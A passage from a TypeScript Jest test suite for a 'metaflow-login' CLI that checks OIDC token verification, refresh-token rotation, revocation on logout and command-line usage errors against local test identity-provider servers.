    expect(res.stderr).toContain('datastoreSysrootS3: must be an s3://<bucket>/<prefix> URL, got "metaflow-bucket"');
  });

  test('--stage resolves the URL from environments/<name>.yaml (here: a host that does not resolve offline)', async () => {
    const res = await runCli(['--stage', 'example', '--no-kubeconfig'], sandbox().env());
    expect(res.code).toBe(1);
    expect(res.stderr).toContain('error: cannot reach https://example.metaflow.example.com/.well-known/metaflow-gitops.json (');
    const unknown = await runCli(['--stage', 'nope'], sandbox().env());
    expect(unknown.code).toBe(2);
    expect(unknown.stderr).toContain('no stage "nope"');
  });

  test('a stage URL that is not a URL is a usage error', async () => {
    const res = await runCli(['dev.metaflow.example.com'], sandbox().env());
    expect(res.code).toBe(2);
    expect(res.stderr).toContain("'dev.metaflow.example.com' is not a URL");
  });
});

describe('tokens issued to another client', () => {
  test('invalid_client from the IdP points at the IdP secret setup', async () => {
    const s = sandbox();
    expect((await runCli([stage.url, '--no-kubeconfig'], s.env())).code).toBe(0);
    const path = join(s.metaflowHome, 'tokens', 'dev.json');
    writeFileSync(path, JSON.stringify({ ...storedTokens(s), clientId: 'unregistered-client', expiresAt: 0 }));
    const res = await runCli(['token', 'dev'], s.env());
    expect(res.code).toBe(1);
    expect(res.stderr).toContain('invalid_client');
    expect(res.stderr).toContain('FederateSecretStoreCommand and FederateCognitoUpdateCommand');
  });
});

describe('token verification with real tokens', () => {
  const s = sandbox();
  let other: { accessToken: string; idToken: string };

  beforeAll(async () => {
    // A real login of another client of the same issuer: its tokens must not pass as the CLI's.
    stage.doc = discoveryDoc(stage.url, provider.issuer, { cliClientId: OTHER_CLIENT });
    const res = await runCli([stage.url, '--no-kubeconfig'], s.env());
    expect(res.code).toBe(0);
    other = storedTokens(s);
  });

  const opts = (overrides: Partial<Parameters<typeof verifyTokens>[1]> = {}) => ({
    issuer: provider.issuer,
    clientId: CLI_CLIENT,
    jwksUri: `${provider.issuer}/jwks`,
    clockToleranceS: 120,
    now: Math.floor(Date.now() / 1000),
    ...overrides,
  });

  test('the same tokens verify for the client they were issued to', async () => {
    const verified = await verifyTokens({ id_token: other.idToken, access_token: other.accessToken }, opts({ clientId: OTHER_CLIENT }));
    expect(verified.idClaims?.sub).toBe('alice');
    expect(verified.accessClaims?.client_id).toBe(OTHER_CLIENT);
  });

  test('wrong audience: an ID token for another client is refused', async () => {
    await expect(verifyTokens({ id_token: other.idToken, access_token: other.accessToken }, opts())).rejects.toThrow(
      `wrong audience: the ID token is for "${OTHER_CLIENT}", not this stage's CLI client '${CLI_CLIENT}'`,
    );
  });

  test('wrong audience: an access token issued to another client is refused', async () => {
    await expect(verifyTokens({ access_token: other.accessToken }, opts())).rejects.toThrow(
      `wrong audience: the access token was issued to client '${OTHER_CLIENT}', not this stage's CLI client '${CLI_CLIENT}'`,
    );
  });

  test('wrong issuer: tokens from another issuer name are refused', async () => {
    const claimed = provider.issuer.replace('localhost', '127.0.0.1');
    await expect(
      verifyTokens({ id_token: other.idToken, access_token: other.accessToken }, opts({ clientId: OTHER_CLIENT, issuer: claimed })),
    ).rejects.toThrow(`wrong issuer: the ID token was issued by '${provider.issuer}', expected '${claimed}'`);
  });

  test('a tampered token fails its signature check', async () => {
    const [h, p, sig] = other.accessToken.split('.');
    const payload = JSON.parse(Buffer.from(p, 'base64url').toString());
    const forged = [h, Buffer.from(JSON.stringify({ ...payload, client_id: CLI_CLIENT })).toString('base64url'), sig].join('.');
    await expect(verifyTokens({ access_token: forged }, opts())).rejects.toThrow(
      "the access token's signature does not verify against the issuer's keys",
    );
  });

  test("a nonce that is not this login's is refused", async () => {
    await expect(
      verifyTokens({ id_token: other.idToken, access_token: other.accessToken }, opts({ clientId: OTHER_CLIENT, nonce: 'another-nonce' })),
    ).rejects.toThrow('the ID token does not carry the nonce of this login');
  });

  test('clock skew: a machine clock two hours ahead gets a clock-skew error, not "expired"', async () => {
    stage.doc = discoveryDoc(stage.url, provider.issuer, { cliClientId: OTHER_CLIENT });
    let stderr = '';
    const code = await main(['token', 'dev'], {
      env: s.env(),
      stdout: () => undefined,
      stderr: (t) => (stderr += t),
      now: () => Date.now() + 2 * 3600_000,
      cwd: s.dir,
    });
    expect(stderr).toMatch(/error: clock skew: the (ID|access) token was issued at .* \(7\d{3} s ahead; tolerance 120 s\)/);
    expect(code).toBe(1);
  });
});

describe('short-lived tokens (access 2 s, refresh 10 s)', () => {
  let shortStage: StageServer;
  let shortStageHandle: TestStage;
  const s = sandbox();
  const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

  beforeAll(async () => {
    shortStageHandle = await startTestStage({ ttl: { AccessToken: 2, IdToken: 2, RefreshToken: 10 } });
    ({ stage: shortStage } = shortStageHandle);
  });

  afterAll(async () => {
    await shortStageHandle?.stop();
  });

  test('an expired access token is refreshed silently by token; an expired refresh token sends login back to the browser', async () => {
    const first = await runCli([shortStage.url, '--no-kubeconfig'], s.env());
    expect(first.code).toBe(0);
    expect(browserLines(s)).toHaveLength(2);
    const initial = storedTokens(s);
    expect(initial.expiresAt - initial.obtainedAt).toBeLessThanOrEqual(3000);

    await sleep(3000);
    // Two processes refresh at once: the refresh lock keeps them from spending the same (rotating)
    // refresh token, which the provider would treat as reuse and refuse.
    const [a, b] = await Promise.all([runCli(['token', 'dev'], s.env()), runCli(['token', 'dev'], s.env())]);
    expect([a.code, b.code, a.stderr, b.stderr]).toEqual([0, 0, '', '']);
    expect(a.stdout.trim()).not.toBe(initial.accessToken);
    expect(b.stdout.trim()).not.toBe(initial.accessToken);
    expect(browserLines(s)).toHaveLength(2);
    expect(existsSync(join(s.metaflowHome, 'tokens', 'dev.json.lock'))).toBe(false);

    // Every refresh rotated the refresh token with a fresh 10 s lifetime, the last one before now.
    await sleep(11_000);
    const expired = await runCli(['token', 'dev'], s.env());
    expect(expired.code).toBe(1);
    expect(expired.stderr).toContain(
      `error: the session of stage 'dev' has expired or was revoked: run metaflow-login ${shortStage.url} again`,
    );

    const again = await runCli([shortStage.url, '--no-kubeconfig'], s.env());
    expect(again.stderr).toContain('The refresh token has expired or was revoked: logging in through the browser.');
    expect(again.stderr).toContain('(browser login)');
    expect(again.code).toBe(0);
    expect(browserLines(s)).toHaveLength(4);
  });
});

describe('standalone package (dist/ built by scripts/standalone.mjs, no tsx)', () => {
  test('logs in with the bundled build and writes the same profile', async () => {
    // Inside the package so the external dependencies resolve from the workspace's node_modules.
    const outDir = join(__dirname, '..', 'tmp', 'standalone-test');
    execFileSync(process.execPath, [join(__dirname, '..', 'scripts', 'standalone.mjs'), outDir]);
    const manifest = JSON.parse(readFileSync(join(outDir, 'package.json'), 'utf8'));
    expect(manifest.main).toBe('dist/main.js');
    expect(manifest.exports).toEqual({ '.': './dist/main.js', './package.json': './package.json' });
    for (const file of manifest.files) expect(existsSync(join(outDir, file))).toBe(true);
    expect(Object.keys(manifest.dependencies).sort()).toEqual(['jose', 'js-yaml', 'openid-client']);
    expect(manifest.devDependencies).toBeUndefined();
    const bundle = readFileSync(join(outDir, 'dist', 'main.js'), 'utf8');
    expect(bundle).not.toMatch(/require\("(aws-cdk-lib|cdk8s|constructs|tsx)/);
    expect(bundle).toContain('/.well-known/metaflow-gitops.json');

    const s = sandbox();
    const res = await runCli([stage.url, '--no-kubeconfig'], s.env(), 60_000, join(outDir, 'bin', 'metaflow-login.js'));
    expect(res.stderr).toContain("Logged in to stage 'dev' as alice@example.com (browser login)");
    expect(res.code).toBe(0);
    expect(JSON.parse(readFileSync(join(s.metaflowHome, 'config_dev.json'), 'utf8')).METAFLOW_SERVICE_URL).toBe(`${stage.url}/cli/`);
  });
});

describe('logout against a Cognito-like issuer (revocation only on the hosted-UI domain)', () => {
  let cognito: ProviderHandle;
  let cognitoStage: StageServer;
  let cognitoStageHandle: TestStage;

  beforeAll(async () => {
    cognitoStageHandle = await startTestStage({ cognitoRevocation: true });
    ({ provider: cognito, stage: cognitoStage } = cognitoStageHandle);
    // The hosted-UI domain is the provider itself, known once it listens.
    cognitoStage.doc = discoveryDoc(cognitoStage.url, cognito.issuer, { cognitoDomain: cognito.issuer });
  });

  afterAll(async () => {
    await cognitoStageHandle?.stop();
  });

  test('revokes through <cognitoDomain>/oauth2/revoke when the metadata names no revocation endpoint', async () => {
    const metadata = (await (await fetch(`${cognito.issuer}/.well-known/openid-configuration`)).json()) as Record<string, unknown>;
    expect(metadata.revocation_endpoint).toBeUndefined();
    const s = sandbox();
    expect((await runCli([cognitoStage.url, '--no-kubeconfig'], s.env())).code).toBe(0);
    const { refreshToken, cognitoDomain } = storedTokens(s);
    expect(cognitoDomain).toBe(cognito.issuer);
    const res = await runCli(['logout', 'dev'], s.env());
    expect(res.stderr).toContain('Revoked the session at the identity provider');
    expect(res.code).toBe(0);
    const reuse = await fetch(`${cognito.issuer}/token`, {
      method: 'POST',
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
      body: new URLSearchParams({ grant_type: 'refresh_token', refresh_token: refreshToken, client_id: CLI_CLIENT }).toString(),
    });
    expect(reuse.status).toBe(400);
    expect(((await reuse.json()) as { error: string }).error).toBe('invalid_grant');
  });
});

describe('a misbehaving IdP issuing tokens for another audience (full login)', () => {
  let idp: ProviderHandle;
  let idpStage: StageServer;
  let idpStageHandle: TestStage;
  const misissue = (body: Record<string, string>) =>
    fetch(`${idp.issuer}/__test__/misissue`, { method: 'POST', body: JSON.stringify(body) });

  beforeAll(async () => {
    idpStageHandle = await startTestStage();
    ({ provider: idp, stage: idpStage } = idpStageHandle);
  });

  afterAll(async () => {
    await idpStageHandle?.stop();
  });

  test('an ID token whose aud is another client is refused and nothing is saved', async () => {
    await misissue({ idTokenAud: OTHER_CLIENT });
    const s = sandbox();
    const res = await runCli([idpStage.url, '--no-kubeconfig'], s.env());
    expect(res.code).toBe(1);
    expect(res.stderr).toContain(
      `error: wrong audience: the ID token is for "${OTHER_CLIENT}", not this stage's CLI client '${CLI_CLIENT}'`,
    );
    expect(browserLines(s)[1]).toBe('callback 400');
    expect(existsSync(join(s.metaflowHome, 'tokens', 'dev.json'))).toBe(false);
  });

  test('an access token issued to another client is refused and nothing is saved', async () => {
    await misissue({ accessTokenClientId: OTHER_CLIENT });
    const s = sandbox();
    const res = await runCli([idpStage.url, '--no-kubeconfig'], s.env());
    expect(res.code).toBe(1);
    expect(res.stderr).toContain(
      `error: wrong audience: the access token was issued to client '${OTHER_CLIENT}', not this stage's CLI client '${CLI_CLIENT}'`,
    );
    expect(existsSync(join(s.metaflowHome, 'tokens', 'dev.json'))).toBe(false);
  });

  test('control: the same provider issuing correct tokens again lets the login through', async () => {
    await misissue({});
    const s = sandbox();
    const res = await runCli([idpStage.url, '--no-kubeconfig'], s.env());
    expect(res.code).toBe(0);
  });
});

describe('command line', () => {
  test.each([
    [['--help']],
    [['token', '--help']],
    [['exec', '--help']],
    [['status', '--help']],
    [['logout', '--help']],
    [['help', 'exec']],
  ])('%j prints help and exits 0', async (args) => {
    const res = await runCli(args, sandbox().env());
    expect(res.code).toBe(0);
    expect(res.stdout).toMatch(/^Usage: metaflow-login/);
    expect(res.stdout).toContain('Exit codes:');
  });

  test('--version prints the package version and exits 0', async () => {
    const res = await runCli(['--version'], sandbox().env());
    expect(res.code).toBe(0);
    expect(res.stdout.trim()).toBe(require('../package.json').version);
  });

  test.each([
    [['--bogus'], "Unknown option '--bogus'"],
    [['token'], 'token takes exactly one stage name'],
    [['exec', 'dev', 'python'], 'exec needs -- before the command'],
    [['https://a.example.com', '--stage', 'dev'], 'pass either a stage URL or --stage <name>, not both'],
    [['https://a.example.com', '--timeout', 'soon'], "--timeout must be a positive number of seconds, got 'soon'"],
  ])('%j is a usage error (exit 2)', async (args, message) => {
    const res = await runCli(args, sandbox().env());
    expect(res.code).toBe(2);
    expect(res.stderr).toContain(message);
  });

  test('no arguments prints the usage and exits 2', async () => {
    const res = await runCli([], sandbox().env());
    expect(res.code).toBe(2);
    expect(res.stderr).toMatch(/^Usage: metaflow-login/);
  });
});
